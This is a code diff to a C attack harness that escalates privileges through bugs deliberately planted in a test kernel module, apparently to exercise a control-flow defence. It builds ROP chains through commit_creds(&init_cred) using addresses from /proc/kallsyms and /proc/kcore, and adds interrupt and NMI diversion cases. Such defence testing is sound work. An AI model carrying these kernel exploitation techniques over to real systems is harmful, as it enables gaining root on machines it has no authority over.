@@ -1,8 +1,8 @@
 /* SPDX-License-Identifier: MIT OR Apache-2.0 */
 /*
- * Two attacks on the running kernel, by way of the planted bugs of module/penumbra_bug.c.
+ * Attacks on the running kernel, by way of the planted bugs of module/penumbra_bug.c.
  *
- * Both make an unprivileged process root, which only the kernel can do.  The addresses
+ * The first two make an unprivileged process root, which only the kernel can do.  The addresses
  * are collected beforehand by `attack_prepare` as root, from /proc/kallsyms and
  * /proc/kcore; an attacker who has the kernel's package and its slide has the same.
  *
@@ -12,10 +12,16 @@
  *   return   write a chain over the return address of __x64_sys_ioctl():
  *            pop rdi; ret  ->  commit_creds(&init_cred)  ->  back to user mode.
  *            The gadget is the second byte of a `pop r15; ret`.
+ *
+ * The others show what becomes of a violation where no process is at work:
+ *
+ *   timer    an interrupt's handler calls the middle of noop_fsync(), which does nothing.
+ *   nmi      the same at an NMI, which somebody outside has to send to this CPU.
  */
 #define _GNU_SOURCE
 #include <elf.h>
 #include <fcntl.h>
+#include <sched.h>
 #include <setjmp.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -23,6 +29,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "module/bug.h"
@@ -37,7 +44,7 @@
 struct addresses {
 	uint64_t commit_creds, init_cred, do_syscall_64, do_syscall_64_end;
 	uint64_t to_user; /* swapgs_restore_regs_and_return_to_usermode */
-	uint64_t stext, inner, pop_rdi;
+	uint64_t stext, noop_fsync, inner, pop_rdi;
 };
 
 static void fail(const char *what)
@@ -49,9 +56,9 @@ static void fail(const char *what)
 static void read_symbols(struct addresses *a)
 {
 	static const char *const names[] = { "commit_creds", "init_cred", "do_syscall_64",
-		"swapgs_restore_regs_and_return_to_usermode", "_stext" };
+		"swapgs_restore_regs_and_return_to_usermode", "_stext", "noop_fsync" };
 	uint64_t *const fields[] = { &a->commit_creds, &a->init_cred, &a->do_syscall_64, &a->to_user,
-		&a->stext };
+		&a->stext, &a->noop_fsync };
 	char line[512], *name;
 	FILE *f = fopen("/proc/kallsyms", "r");
 
@@ -183,17 +190,42 @@ static void by_return(int fd, const struct addresses *a)
 	/* The ioctl returned here: the chain did not run. */
 }
 
+/* Behind the 5 bytes of a function's ftrace site, and behind an ENDBR64 where the kernel has them. */
+static uint64_t behind_entry(uint64_t function)
+{
+	unsigned char entry[4];
+
+	read_text(function, entry, sizeof entry);
+	return function + (memcmp(entry, "\xf3\x0f\x1e\xfa", 4) ? 5 : 9);
+}
+
+/* Spins in user mode on this CPU, so that what comes meanwhile interrupts this process. */
+static void in_interrupt(int fd, unsigned long command, uint64_t function)
+{
+	cpu_set_t cpus;
+	int cpu = sched_getcpu();
+
+	CPU_ZERO(&cpus);
+	CPU_SET(cpu, &cpus);
+	if (cpu < 0 || sched_setaffinity(0, sizeof cpus, &cpus))
+		fail("stay on one CPU");
+	if (ioctl(fd, command, function))
+		fail("ioctl");
+	printf("attack: waits on CPU %d\n", cpu);
+	for (time_t end = time(NULL) + 20; time(NULL) < end;)
+		;
+	close(fd);
+}
+
 int attack_prepare(const char *file)
 {
-	unsigned char entry[9];
 	struct addresses a = { 0 };
 	FILE *f;
 
 	read_symbols(&a);
 	a.pop_rdi = find_pop_rdi(&a);
-	/* 5 bytes of ftrace site, behind an ENDBR64 where the kernel has them. */
-	read_text(a.commit_creds, entry, sizeof entry);
-	a.inner = a.commit_creds + (entry[0] == 0xf3 && entry[1] == 0x0f && entry[2] == 0x1e ? 9 : 5);
+	a.inner = behind_entry(a.commit_creds);
+	a.noop_fsync = behind_entry(a.noop_fsync);
 	f = fopen(file, "w");
 	if (!f || fwrite(&a, sizeof a, 1, f) != 1 || fclose(f))
 		fail(file);
@@ -222,8 +254,10 @@ int attack(const char *kind, const char *file, const char *go)
 		usleep(20000);
 	if (!strcmp(kind, "pointer"))
 		by_pointer(fd, &a);
-	else
+	else if (!strcmp(kind, "return"))
 		by_return(fd, &a);
+	else
+		in_interrupt(fd, strcmp(kind, "nmi") ? BUG_TIMER : BUG_NMI, a.noop_fsync);
 	report(kind);
 	return 0;
 }
